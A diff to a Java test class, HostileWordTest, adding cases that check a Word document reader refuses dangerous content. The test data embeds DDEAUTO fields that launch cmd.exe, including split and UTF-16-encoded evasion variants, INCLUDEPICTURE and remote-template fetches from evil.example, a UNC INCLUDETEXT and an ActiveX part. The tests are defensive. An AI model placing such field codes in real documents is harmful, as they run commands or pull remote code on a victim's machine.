@@ -20,6 +20,9 @@ class HostileWordTest {
     assertEquals(code, no.refusal().code());
   }
 
+  private static final String W =
+      "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
+
   private static WordFile good() {
     return WordFile.of(p(r("words")));
   }
@@ -139,6 +142,38 @@ class HostileWordTest {
     refused(
         "word.external",
         good().related("attachedTemplate", "https://evil.example/a.dotm", "External").bytes());
+  }
+
+  private static String field(String... code) {
+    StringBuilder runs = new StringBuilder("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
+    for (String piece : code) {
+      runs.append("<w:r><w:instrText>").append(piece).append("</w:instrText></w:r>");
+    }
+    return runs + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
+  }
+
+  @Test
+  void fieldsThatStartProgramsOrFetchAndControls() {
+    refused("word.macros", WordFile.of(p(field(" DDEAUTO c:\\\\cmd.exe \"/k\" "))).bytes());
+    refused("word.macros", WordFile.of(p(field("D", "DE", " excel x"))).bytes());
+    String simple = "<w:p><w:fldSimple w:instr=\"ddeauto cmd\"/></w:p>";
+    refused("word.macros", WordFile.of(simple).bytes());
+    refused("word.macros", good().with("header1", simple).bytes());
+    byte[] wide = ("<a " + W + ">" + simple + "</a>").getBytes(StandardCharsets.UTF_16);
+    refused("word.macros", good().part("word/header1.xml", wide).bytes());
+    refused(
+        "word.external",
+        WordFile.of(p(field(" INCLUDEPICTURE \"https://evil.example/a.png\" \\d"))).bytes());
+    refused("word.external", WordFile.of(p(field(" INCLUDETEXT \"\\\\\\\\host\\\\a\""))).bytes());
+    refused(
+        "word.macros",
+        good().typed("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml").bytes());
+    assertEquals(
+        1,
+        WordReader.read(
+                WordFile.of(p(field(" HYPERLINK \"https://www.example.org/\" "), r("DDE"))).bytes())
+            .paragraphs()
+            .size());
   }
 
   @Test
